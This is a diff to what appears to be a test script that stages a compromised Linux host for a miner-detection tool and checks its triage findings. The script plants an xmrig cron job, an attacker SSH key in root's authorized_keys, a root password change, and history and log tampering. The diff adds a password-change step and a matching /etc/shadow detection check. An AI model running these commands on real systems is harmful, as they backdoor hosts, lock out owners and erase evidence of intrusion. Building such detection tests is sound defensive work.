@@ -143,6 +143,8 @@ echo "@reboot root /usr/local/bin/xmrig -o stratum+tcp://pool.example.net:3333 -
 # A trust relationship.
 mkdir -p -m 700 /root/.ssh
 echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKattacker attacker@203.0.113.7" >/root/.ssh/authorized_keys
+# The password changed (on the overlay: /etc/shadow of this namespace).
+echo "root:Tr0ub4dor&3" | chpasswd
 # Logs: cut, gapped, rotated; login records cut and zeroed.
 cp "$S/auth.log" "$S/auth.log.1" "$S/syslog" "$S/btmp" "$S/wtmp" /var/log/
 ln -s /dev/null /root/.bash_history
@@ -215,6 +217,7 @@ finding MW-TRIAGE-202 '.file.path == "/var/log/wtmp" and .minerwatch.triage.zero
 finding MW-TRIAGE-301 '.source.ip == "203.0.113.7" and .minerwatch.triage.failures == 8' "login after 8 failures (auth.log.1)" >/dev/null
 finding MW-TRIAGE-301 '.source.ip == "198.51.100.9" and .minerwatch.triage.failures == 6' "login after 6 failures (btmp + wtmp)" >/dev/null
 finding MW-PERSIST-009 '.user.name == "root" and .event.severity >= 60' "password changed at night" >/dev/null
+finding MW-PERSIST-009 '.user.name == "root" and .file.path == "/etc/shadow"' "password changed after install (shadow's change day)" >/dev/null
 finding MW-AF-004 '.file.path == "/root/.bash_history"' "history linked to /dev/null" >/dev/null
 finding MW-TRIAGE-401 '.file.path == "/tmp/pass.txt"' "password list in /tmp" >/dev/null
 finding MW-TRIAGE-402 '.file.path == "/tmp/scan.txt"' "masscan output in /tmp" >/dev/null
